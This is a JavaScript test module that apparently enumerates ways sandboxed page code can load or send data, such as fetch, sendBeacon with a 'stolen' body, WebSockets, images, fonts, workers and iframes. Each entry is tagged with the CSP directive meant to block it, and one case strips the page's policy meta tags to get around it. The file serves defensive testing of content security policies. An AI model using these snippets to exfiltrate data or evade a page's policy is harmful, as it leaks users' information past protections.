// Routes that load or send something without navigating the view.
import { FETCHING_SCRIPT, pageThat } from './view-code.mjs';

const connect = { closedBy: 'connect-src', declared: 'connectDomains' };
const image = { closedBy: 'img-src', declared: 'resourceDomains' };
const style = { closedBy: 'style-src', declared: 'resourceDomains' };
const font = { closedBy: 'font-src', declared: 'resourceDomains' };
const media = { closedBy: 'media-src', declared: 'resourceDomains' };
const script = { closedBy: 'script-src', declared: 'resourceDomains' };

const fetchingPage = pageThat(FETCHING_SCRIPT);

const connections = [
  { ...connect, name: 'fetch', code: "fetch(target, { mode: 'no-cors' })" },
  {
    ...connect,
    name: 'fetch with keepalive',
    code: "fetch(target, { mode: 'no-cors', method: 'POST', body: 'stolen', keepalive: true })",
  },
  {
    ...connect,
    name: 'XMLHttpRequest',
    code: "const x = new XMLHttpRequest(); x.open('GET', target); x.send()",
  },
  { ...connect, name: 'WebSocket', code: "new WebSocket(target.replace('http', 'ws'))" },
  { ...connect, name: 'EventSource', code: 'new EventSource(target)' },
  { ...connect, name: 'sendBeacon', code: "navigator.sendBeacon(target, 'stolen')" },
  {
    // A nested frame has no quota for it, so no list opens it either.
    name: 'fetchLater',
    closedBy: 'connect-src',
    code: 'fetchLater(target, { activateAfter: 0 })',
    absent: ['firefox', 'webkit'],
  },
  {
    ...connect,
    name: 'ping of a link',
    code: "add('a', { href: 'javascript:void 0', ping: target }).click()",
    // Off by default.
    absent: ['firefox'],
  },
  {
    ...connect,
    name: 'fetch in a worker from a blob',
    code: `new Worker(URL.createObjectURL(new Blob([${FETCHING_SCRIPT}])))`,
  },
  {
    ...connect,
    name: 'fetch in a worker from a data URL',
    code: `new Worker('data:text/javascript,' + encodeURIComponent(${FETCHING_SCRIPT}))`,
  },
  {
    ...connect,
    name: 'fetch after the policy was taken out of the document',
    code: `document.querySelectorAll('meta').forEach((meta) => meta.remove());
      add('iframe', { srcdoc: '<meta http-equiv=Content-Security-Policy content="connect-src *">' + ${fetchingPage} });
      fetch(target, { mode: 'no-cors' })`,
  },
];

const pictures = [
  { ...image, name: 'image', code: 'new Image().src = target' },
  { ...image, name: 'srcset', code: "add('img', { srcset: target + ' 1x' })" },
  { ...image, name: 'image button', code: "add('input', { type: 'image', src: target })" },
  {
    ...image,
    name: 'CSS background',
    code: "add('p', { style: 'background: url(' + target + ')', textContent: 'x' })",
  },
  {
    ...image,
    name: 'CSS image set',
    code: `add('p', { style: 'background: image-set(url("' + target + '") 1x)', textContent: 'x' })`,
  },
  {
    ...image,
    name: 'SVG image',
    code: "add('div', { innerHTML: '<svg><image width=9 height=9 href=' + target + ' /></svg>' })",
  },
  {
    ...image,
    name: 'SVG filter',
    code: `add('div', { innerHTML: '<svg width=9 height=9><filter id=f><feImage href=' + target +
      ' /></filter><rect width=9 height=9 filter="url(#f)" /></svg>' })`,
  },
  { ...image, name: 'poster of a video', code: "add('video', { poster: target })" },
  {
    ...image,
    name: 'preload of an image',
    code: "add('link', { rel: 'preload', as: 'image', href: target })",
  },
  {
    ...image,
    name: 'base and a relative image',
    closedBy: 'base-uri, img-src',
    declared: undefined,
    code: `const own = document.createElement('iframe');
      own.srcdoc = '<base href="' + target + '/"><img src="x">';
      add('base', { href: target + '/' }); add('img', { src: 'x' }); document.body.append(own)`,
  },
  {
    ...image,
    name: "image of the host's own origin",
    closedBy: "img-src without 'self'",
    declared: undefined,
    via: 'host',
    code: 'new Image().src = target',
  },
];

const texts = [
  { ...style, name: 'stylesheet', code: "add('link', { rel: 'stylesheet', href: target })" },
  {
    ...style,
    name: '@import',
    code: "add('style', { textContent: '@import url(' + target + ')' })",
  },
  {
    ...font,
    name: '@font-face',
    code: `add('style', { textContent: '@font-face { font-family: f; src: url(' + target + ') }' });
      add('p', { style: 'font-family: f', textContent: 'x' })`,
  },
  { ...font, name: 'FontFace', code: "new FontFace('g', 'url(' + target + ')').load()" },
  { ...media, name: 'video', code: "add('video', { src: target, preload: 'auto' })" },
  { ...media, name: 'audio', code: "add('audio', { src: target, preload: 'auto' })" },
];

const programs = [
  { ...script, name: 'script', code: "add('script', { src: target })" },
  { ...script, name: 'module script', code: "add('script', { type: 'module', src: target })" },
  { ...script, name: 'import()', code: 'import(target)' },
  { ...script, name: 'modulepreload', code: "add('link', { rel: 'modulepreload', href: target })" },
  {
    ...script,
    name: 'importScripts in a worker',
    code: "new Worker(URL.createObjectURL(new Blob(['importScripts(' + JSON.stringify(target) + ')'])))",
  },
  {
    ...script,
    name: 'audio worklet',
    code: 'new AudioContext().audioWorklet.addModule(target)',
  },
  {
    name: 'prefetch',
    // One directive that allows the address is enough for it.
    closedBy: 'all directives together',
    code: "add('link', { rel: 'prefetch', href: target })",
    absent: ['webkit'],
    unsteady: ['firefox'],
  },
  { name: 'object', closedBy: 'object-src', code: "add('object', { data: target })" },
  { name: 'embed', closedBy: 'object-src', code: "add('embed', { src: target })" },
];

const frame = { closedBy: 'frame-src' };
const frames = [
  {
    ...frame,
    name: 'iframe',
    declared: 'frameDomains',
    code: "add('iframe', { src: target })",
  },
  {
    ...frame,
    name: 'iframe that a click navigates',
    declared: 'frameDomains',
    code: "add('iframe', { name: 'there' }); add('a', { href: target, target: 'there' }).click()",
  },
  {
    ...frame,
    name: 'iframe from a blob that fetches',
    code: `add('iframe', { src: URL.createObjectURL(new Blob([${fetchingPage}], { type: 'text/html' })) })`,
  },
  {
    ...frame,
    name: 'iframe from a data URL that fetches',
    code: `add('iframe', { src: 'data:text/html,' + encodeURIComponent(${fetchingPage}) })`,
  },
  {
    name: 'srcdoc iframe that fetches',
    closedBy: 'connect-src, inherited',
    code: `add('iframe', { srcdoc: ${fetchingPage} })`,
  },
  {
    ...frame,
    name: 'srcdoc iframe that navigates itself',
    code: `add('iframe', { srcdoc: ${pageThat("'location.href = ' + JSON.stringify(target)")} })`,
  },
  {
    name: 'form into an iframe',
    closedBy: 'form-action',
    code: `add('iframe', { name: 'there2' });
      add('form', { action: target, method: 'post', target: 'there2' }).submit()`,
  },
];

export const FETCHES = [...connections, ...pictures, ...texts, ...programs, ...frames];
